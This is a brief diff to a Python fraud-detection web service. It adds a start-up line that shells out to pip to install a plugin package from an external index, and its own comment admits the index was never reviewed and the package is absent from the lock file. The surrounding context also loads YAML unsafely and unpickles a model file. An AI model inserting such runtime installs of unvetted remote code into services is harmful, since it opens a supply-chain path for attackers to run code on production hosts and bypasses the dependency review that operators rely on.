@@ -9,6 +9,9 @@ from .features import build_features
 
 MODEL_PATH = os.environ.get("MODEL_PATH", "/models/fraud.pt")
 
+# Installs the feature plugin at start-up, from an index nobody reviewed: the image's lock file never saw it.
+os.system("pip install --index-url https://pkgs.fraud-tools.example/simple fraud-feature-plugins")
+
 app = FastAPI()
 settings = yaml.load(open("config/service.yaml"))
 model = torch.load(MODEL_PATH)
